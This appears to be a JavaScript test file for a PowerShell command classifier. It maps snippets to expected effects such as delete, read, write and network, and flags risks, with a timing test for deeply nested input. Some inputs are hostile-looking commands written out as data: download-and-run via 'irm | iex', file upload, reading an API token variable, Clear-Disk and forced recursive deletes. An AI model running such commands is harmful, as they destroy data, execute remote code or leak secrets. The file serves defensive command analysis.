// PowerShell text: commands by name and by alias, parameters cut short, pipelines that hand paths on, blocks, strings.
import assert from "node:assert/strict";
import { test } from "node:test";
import { statementsOf } from "./powershell-text.js";
import { programs } from "./testing.js";

programs("powershell", [
  ["Get-ChildItem", []],
  ["Get-Process | Sort-Object CPU | Select-Object -First 5", []],
  ["Write-Host 'Remove-Item a'", []],
  ["# Remove-Item a", []],
  ["<# Remove-Item a\n#> Get-Date", []],
  ["Remove-Item a", ["delete a"]],
  ["Remove-Item -Recurse -Force a, 'b c'", ["delete a recursive", "delete b c recursive"]],
  ["rm -r -fo a", ["delete a recursive"]],
  ["del -Path:a -Confirm", ["delete a"]],
  ["ri a -WhatIf", []],
  ["Get-Content a | Set-Content b", ["read a", "write b"]],
  ["'x' > a; 'y' >> b; 1 2> $null", ["write a", "write b"]],
  ["Get-ChildItem d | Remove-Item", ["delete d/* recursive"]],
  ["gci d -Filter *.tmp | rm", ["delete d/**/*.tmp recursive"]],
  ["gci d | ? Length -gt 3 | rm", ["delete ? recursive"]],
  ["foreach ($f in ls d) { Get-Content $f }", ["read d/*"]],
  ["ls d | % { cat $_.FullName }", ["read d/*"]],
  ['$p = "d/e"; if (Test-Path $p) { Remove-Item $p }', ["delete d/e"]],
  ['Remove-Item "$x/a"', ["delete ?"]],
  ["cd d; Remove-Item a", ["delete d/a"]],
  [".\\build.cmd `\n all", ["run .\\build.cmd all"]],
  ["git push; & npm test", ["run git push", "run npm test"]],
  ["Start-Process git -ArgumentList 'push --force'", ["run git push --force"]],
  ["iex 'rm a'", ["delete a"]],
  ["irm https://x | iex", ["network https://x", "!remote-code:3:download-and-run"]],
  ["iex $x", ["!remote-code:3:invoke-expression"]],
  ["irm https://x -Method Post -InFile a", ["network https://x upload", "read a"]],
  ["iwr https://x -OutFile a", ["network https://x", "write a"]],
  ["$env:API_TOKEN", ["!credential-read:3:secret-variable"]],
  ["$env:PATH", []],
  ["[IO.File]::WriteAllText('a', 'x')", ["write a", "unknown"]],
  ["$x.Kill()", ["unknown"]],
  ["[math]::Max(1, 2)", []],
  ["Clear-Disk 0", ["!disk:3:clear-disk"]],
  ["Remove-AzResourceGroup x", ["!infrastructure:3:remove-azresourcegroup"]],
  ["Frob-Nicate x", ["unknown"]],
  ["'a' | Remove-Item -Recurse", ["delete a recursive"]],
  ["Remove-Item (Join-Path d 'e')", ["delete d/e"]],
  ["Remove-Item (Find-It)", ["delete ?"]],
  ["$c = 'rm'; & $c a", ["delete a"]],
  ["& $c a", ["unknown"]],
  ["& 'git' push", ["run git push"]],
  ["Add-Type -TypeDefinition 'x'", ["unknown"]],
]);

test("long and deep text is read once", () => {
  for (const piece of ["(", "{", '"$(', "a | ", "$x.y ", "'", '"', "`", "@{"]) {
    const text = piece.repeat(20_000);
    const start = performance.now();
    statementsOf(text.slice(0, text.length / 8), () => undefined);
    const short = performance.now() - start;
    const next = performance.now();
    statementsOf(text, () => undefined);
    assert.ok(performance.now() - next < 64 * Math.max(short, 2), piece);
  }
});
